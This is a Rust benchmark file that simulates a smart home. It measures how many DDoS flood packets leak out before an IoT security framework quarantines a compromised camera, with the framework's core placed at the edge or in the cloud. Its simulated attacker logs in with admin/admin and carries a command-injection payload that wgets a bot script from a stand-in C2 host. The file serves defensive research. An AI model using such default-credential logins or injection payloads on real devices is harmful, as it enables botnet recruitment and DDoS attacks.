//! E-M7 — Core placement (§IV-D): the paper argues the XLF Core "could
//! realize its full potential when deployed in the network layer by
//! extending the existing smart IoT gateway" (edge) versus "deployed in
//! the service layer leveraging the computing power of cloud". The cost
//! of the cloud placement is response latency: every quarantine decision
//! rides a WAN round trip before it bites. This experiment measures how
//! many flood packets escape the home during that window.
//!
//! The bot floods the *cloud endpoint* — an allowlisted destination, so
//! the NAC's destination control cannot pre-empt it (floods toward
//! arbitrary victims are already stopped by the allowlist itself; see the
//! integration tests). Only the quarantine stops this one.

use xlf_bench::print_table;
use xlf_core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf_device::{SensorKind, VulnSet, Vulnerability};
use xlf_simnet::{Body, Context, Duration, Medium, Node, NodeId, Packet, SimTime};

/// Attacker that recruits the camera and immediately orders a sustained
/// flood — so containment speed is what decides the damage.
struct FastAttacker {
    gateway: NodeId,
    flood_target: NodeId,
}

impl Node for FastAttacker {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(Duration::from_secs(180), 1);
    }
    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        if tag == 1 {
            let (device, user, pass) = (Some("cam".into()), "admin", "admin");
            let body = Body::Login { device, user, pass };
            let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
            let login = Packet::new(ctx.id(), self.gateway, body, payload);
            ctx.send(self.gateway, login);
            ctx.set_timer(Duration::from_millis(500), 2);
        } else {
            let body = Body::AttackCmd {
                device: Some("cam".into()),
                target: self.flood_target,
                count: 5000,
            };
            let order = Packet::new(ctx.id(), self.gateway, body, Vec::new());
            ctx.send(self.gateway, order);
        }
    }
}

fn run(response_delay: Duration) -> (u64, Option<Duration>) {
    let mut config = XlfConfig::full();
    config.evaluation_interval = Duration::from_millis(500);
    config.response_delay = response_delay;
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature),
        HomeDevice::new("cam", SensorKind::Camera)
            .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword])),
    ];
    let mut home = XlfHome::build(7, config, &devices);
    let cloud = home.cloud;
    let attacker = home.net.add_node(Box::new(FastAttacker {
        gateway: home.gateway,
        flood_target: cloud,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
    let (tap, records) =
        xlf_simnet::observer::RecordingTap::filtered(move |p| p.kind() == "ddos" && p.dst == cloud);
    home.net.add_tap(Box::new(tap));
    home.net.run_until(SimTime::from_secs(300));
    let records = records.borrow();
    let hits = records.len() as u64;
    let window = records
        .first()
        .zip(records.last())
        .map(|(first, last)| last.at.since(first.at));
    (hits, window)
}

fn main() {
    let placements = [
        ("Core at gateway (edge)", Duration::ZERO),
        ("Core in-metro cloud (+40 ms)", Duration::from_millis(40)),
        ("Core in-region cloud (+200 ms)", Duration::from_millis(200)),
        ("Core far cloud (+1 s)", Duration::from_secs(1)),
        ("Core congested cloud (+5 s)", Duration::from_secs(5)),
    ];
    let mut rows = Vec::new();
    for (name, delay) in placements {
        let (leaked, window) = run(delay);
        rows.push(vec![
            name.to_string(),
            format!("{:.2} s", delay.as_secs_f64()),
            leaked.to_string(),
            window
                .map(|w| format!("{:.2} s", w.as_secs_f64()))
                .unwrap_or_else(|| "—".to_string()),
        ]);
    }
    print_table(
        "E-M7 — Core placement: flood packets escaping before containment (§IV-D)",
        &[
            "Placement",
            "Response delay",
            "Flood packets leaked",
            "Leak window",
        ],
        &rows,
    );
    println!(
        "\nShape check: leakage grows with the decision round trip — the\n\
         quantitative version of the paper's recommendation to host the\n\
         Core at the smart gateway (edge computing, §IV-D)."
    );
}
